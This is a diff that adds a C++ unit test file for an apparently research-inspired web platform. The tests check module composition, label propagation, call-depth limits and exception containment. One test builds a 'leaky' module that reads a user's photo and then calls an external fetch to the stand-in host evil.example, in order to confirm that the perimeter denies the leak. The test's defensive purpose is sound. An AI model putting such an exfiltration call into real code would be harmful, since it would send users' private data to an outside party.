@@ -1,0 +1,146 @@
+// Inter-module composition (paper §1/§2: users pick modules from
+// different developers; the platform API includes communication between
+// modules). The crucial property: a module *call* shares the caller's
+// process, so labels flow through composition and the perimeter judges
+// the combined result.
+#include <gtest/gtest.h>
+
+#include "apps/apps.h"
+#include "core/gateway.h"
+#include "core/provider.h"
+
+namespace w5::platform {
+namespace {
+
+using net::HttpResponse;
+using net::Method;
+
+class CallModuleTest : public ::testing::Test {
+ protected:
+  CallModuleTest() : provider_(ProviderConfig{}, clock_) {}
+
+  void SetUp() override {
+    apps::register_standard_apps(provider_);
+    ASSERT_TRUE(provider_.signup("bob", "bobpw").ok());
+    ASSERT_TRUE(provider_.signup("eve", "evepw").ok());
+    bob_ = provider_.login("bob", "bobpw").value();
+    eve_ = provider_.login("eve", "evepw").value();
+    ASSERT_EQ(provider_.http(Method::kPost, "/data/photos/p1",
+                             R"({"title":"bob's photo","caption":"",
+                                 "rating":5,"pixels":["abcd","efgh"]})",
+                             bob_).status,
+              201);
+  }
+
+  void add_module(const std::string& name, AppHandler handler) {
+    Module module;
+    module.developer = "devX";
+    module.name = name;
+    module.version = "1.0";
+    module.handler = std::move(handler);
+    ASSERT_TRUE(provider_.modules().add(module).ok());
+  }
+
+  util::SimClock clock_;
+  Provider provider_;
+  std::string bob_, eve_;
+};
+
+TEST_F(CallModuleTest, ComposesAnotherDevelopersModule) {
+  // A "gallery" module that renders via photoco's viewer.
+  add_module("gallery", [](AppContext& ctx) {
+    auto inner = ctx.call_module("photoco", "photos", "view",
+                                 "id=" + ctx.query_param("id"));
+    if (!inner.ok()) return HttpResponse::text(500, inner.error().code);
+    return HttpResponse::html(200, "<div class=frame>" +
+                                       inner.value().body + "</div>");
+  });
+  const auto response =
+      provider_.http(Method::kGet, "/dev/devX/gallery?id=p1", "", bob_);
+  EXPECT_EQ(response.status, 200) << response.body;
+  EXPECT_NE(response.body.find("bob's photo"), std::string::npos);
+  EXPECT_NE(response.body.find("frame"), std::string::npos);
+}
+
+TEST_F(CallModuleTest, ContaminationFlowsThroughComposition) {
+  // The outer module never touches the store itself, but its callee
+  // does; the label sticks to the shared process, and the perimeter
+  // still blocks eve.
+  add_module("gallery", [](AppContext& ctx) {
+    auto inner = ctx.call_module("photoco", "photos", "view", "id=p1");
+    return HttpResponse::text(200,
+                              inner.ok() ? inner.value().body : "none");
+  });
+  const auto blocked =
+      provider_.http(Method::kGet, "/dev/devX/gallery", "", eve_);
+  EXPECT_EQ(blocked.status, 403);
+  EXPECT_EQ(blocked.body.find("bob's photo"), std::string::npos);
+  // And the outer module cannot fetch externally after the call.
+  add_module("leaky", [](AppContext& ctx) {
+    (void)ctx.call_module("photoco", "photos", "view", "id=p1");
+    auto out = ctx.fetch_external("evil.example/?x=");
+    return HttpResponse::text(200, out.ok() ? "sent" : out.error().code);
+  });
+  const auto leak =
+      provider_.http(Method::kGet, "/dev/devX/leaky", "", bob_);
+  EXPECT_EQ(leak.status, 200);  // bob may see his own data...
+  EXPECT_NE(leak.body.find("perimeter.denied"),
+            std::string::npos);  // ...but the side door stayed shut
+}
+
+TEST_F(CallModuleTest, UnknownCalleeAndDepthLimit) {
+  add_module("caller", [](AppContext& ctx) {
+    auto inner = ctx.call_module("nobody", "nothing");
+    return HttpResponse::text(200, inner.ok() ? "?" : inner.error().code);
+  });
+  EXPECT_NE(provider_.http(Method::kGet, "/dev/devX/caller", "", bob_)
+                .body.find("module.not_found"),
+            std::string::npos);
+
+  // Mutual recursion bottoms out at the depth limit instead of looping.
+  add_module("ping", [](AppContext& ctx) {
+    auto inner = ctx.call_module("devX", "ping");
+    return HttpResponse::text(200,
+                              inner.ok() ? inner.value().body
+                                         : inner.error().code);
+  });
+  const auto response =
+      provider_.http(Method::kGet, "/dev/devX/ping", "", bob_);
+  EXPECT_EQ(response.status, 200);
+  EXPECT_NE(response.body.find("module.call_depth"), std::string::npos);
+}
+
+TEST_F(CallModuleTest, CalleeExceptionIsContained) {
+  add_module("bomb", [](AppContext&) -> HttpResponse {
+    throw std::runtime_error("boom with secrets");
+  });
+  add_module("caller", [](AppContext& ctx) {
+    auto inner = ctx.call_module("devX", "bomb");
+    return HttpResponse::text(200,
+                              inner.ok() ? "?" : inner.error().code);
+  });
+  const auto response =
+      provider_.http(Method::kGet, "/dev/devX/caller", "", bob_);
+  EXPECT_EQ(response.status, 200);
+  EXPECT_NE(response.body.find("module.call"), std::string::npos);
+  EXPECT_EQ(response.body.find("secrets"), std::string::npos);
+}
+
+TEST_F(CallModuleTest, CalleeUsageCountsForSearchPopularity) {
+  add_module("wrapper", [](AppContext& ctx) {
+    (void)ctx.call_module("photoco", "photos", "list");
+    return HttpResponse::text(200, "ok");
+  });
+  for (int i = 0; i < 3; ++i)
+    (void)provider_.http(Method::kGet, "/dev/devX/wrapper", "", bob_);
+  const auto hits = provider_.http(Method::kGet, "/search?q=photos");
+  // photoco/photos accrued popularity through being called.
+  EXPECT_NE(hits.body.find("photoco/photos@1.0"), std::string::npos);
+  const auto pos = hits.body.find("photoco/photos@1.0");
+  const auto pop = hits.body.find("\"popularity\":", pos);
+  ASSERT_NE(pop, std::string::npos);
+  EXPECT_NE(hits.body.substr(pop, 20).find("1"), std::string::npos);
+}
+
+}  // namespace
+}  // namespace w5::platform
